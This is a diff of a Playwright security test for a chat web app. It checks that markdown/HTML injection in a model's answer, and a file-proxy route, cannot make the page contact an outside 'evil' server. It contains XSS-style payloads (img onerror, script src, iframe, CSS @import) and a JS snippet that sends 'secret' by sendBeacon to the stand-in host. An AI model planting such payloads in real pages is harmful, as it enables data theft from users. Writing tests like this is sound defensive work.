@@ -2,61 +2,32 @@
 
 from __future__ import annotations
 
-import threading
-from collections.abc import Callable, Iterator
-from dataclasses import dataclass, field
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from collections.abc import Callable
 
 import pytest
+import safehttpx
 from playwright.sync_api import BrowserContext, Request, expect
 
 from ..chat import scripted
 from ..chat.scripted import ScriptedPipeline
+from .conftest import Evil, local_address
 
 HOSTILE = """![x]({evil}/x.png) <img src="{evil}/y.png" onerror="alert(1)">
 <iframe src="{evil}/"></iframe> <link rel="stylesheet" href="{evil}/z.css"> <style>@import "{evil}/i.css"</style>
 [![x]({evil}/v.png)]({evil}/) <script src="{evil}/s.js"></script>
 """
 TRY = """async (evil) => {
-  const image = new Promise((done) => {
+  const shown = (address) => new Promise((done) => {
     const image = new Image();
     image.onload = () => done("loaded");
     image.onerror = () => done("blocked");
-    image.src = evil + "/w.png";
+    image.src = address;
   });
   const fetched = fetch(evil, {mode: "no-cors"}).then(() => "loaded", () => "blocked");
   navigator.sendBeacon(evil, "secret");
-  return [await image, await fetched];
+  const passed = "/gradio_api/file=" + evil + "/p.png", status = (await fetch(passed)).status;
+  return [await shown(evil + "/w.png"), await shown(passed), await fetched, status];
 }"""
-
-
-@dataclass
-class Evil:
-    """Another server. `asked` is what reached it."""
-
-    url: str
-    asked: list[str] = field(default_factory=list)
-
-
-@pytest.fixture
-def evil() -> Iterator[Evil]:
-    class Handler(BaseHTTPRequestHandler):
-        def do_GET(self) -> None:
-            there.asked.append(self.path)
-            self.send_response(200)
-            self.end_headers()
-
-        do_POST = do_GET  # noqa: N815
-
-        def log_message(self, *said: object) -> None:
-            pass
-
-    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-    there = Evil(f"http://localhost:{server.server_port}")
-    threading.Thread(target=server.serve_forever, daemon=True).start()
-    yield there
-    server.shutdown()
-    server.server_close()
 
 
 def test_a_hostile_answer_makes_the_page_ask_no_other_host(
@@ -66,6 +37,7 @@ def test_a_hostile_answer_makes_the_page_ask_no_other_host(
     evil: Evil,
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
+    monkeypatch.setattr(safehttpx, "async_validate_url", local_address)
     monkeypatch.setattr(scripted, "BEGINNING", HOSTILE.format(evil=evil.url))
     pipeline.warm.set()
     pipeline.gate.set()
@@ -84,7 +56,7 @@ def test_a_hostile_answer_makes_the_page_ask_no_other_host(
     page.locator("#send").click()
     expect(page.locator("#chat .figures")).to_have_count(1, timeout=60_000)
     expect(page.locator("#chat")).to_contain_text(evil.url)
-    assert page.evaluate(TRY, evil.url) == ["blocked", "blocked"]  # whatever else gets into the page
+    assert page.evaluate(TRY, evil.url) == ["blocked", "blocked", "blocked", 404]  # whatever else gets into the page
     assert evil.asked == []
 
 
